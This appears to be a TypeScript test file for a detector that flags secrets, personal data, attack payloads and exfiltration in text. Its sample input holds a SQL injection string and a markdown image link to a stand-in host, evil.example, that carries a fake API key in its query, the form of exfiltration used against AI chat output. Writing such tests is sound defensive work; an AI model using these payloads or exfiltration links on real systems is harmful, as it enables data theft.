import { expect, it } from "vitest";
import type { Category } from "../detector.ts";
import { leaksOf } from "./all.ts";

it("finds the key and the address that stand in a payload or a URL", () => {
  const rules = leaksOf(new Set<Category>(["secrets", "pii", "payload", "exfiltration"]));
  const text =
    "1' UNION SELECT 'ada@example.org', pass FROM users-- and " +
    "![x](https://evil.example/?q=my+key+is+sk-ant-api03-abcdefghijklmnopqrstuvwxyz)";
  const names = rules?.look(text, true).findings.map(({ detector }) => detector);
  expect(names).toEqual([
    "payload.sql_injection",
    "pii.email",
    "exfiltration.image",
    "secrets.anthropic_key",
  ]);
});

it("shares what it made of the same patterns, and has nothing for nothing", () => {
  const wanted = new Set<Category>(["payload"]);
  expect(leaksOf(wanted)).toBe(leaksOf(wanted));
  expect(leaksOf(new Set<Category>(["injection"]))).toBeUndefined();
  expect(
    leaksOf(new Set<Category>(["pii"]), { isSilent: (name) => name.startsWith("pii.") }),
  ).toBeUndefined();
});
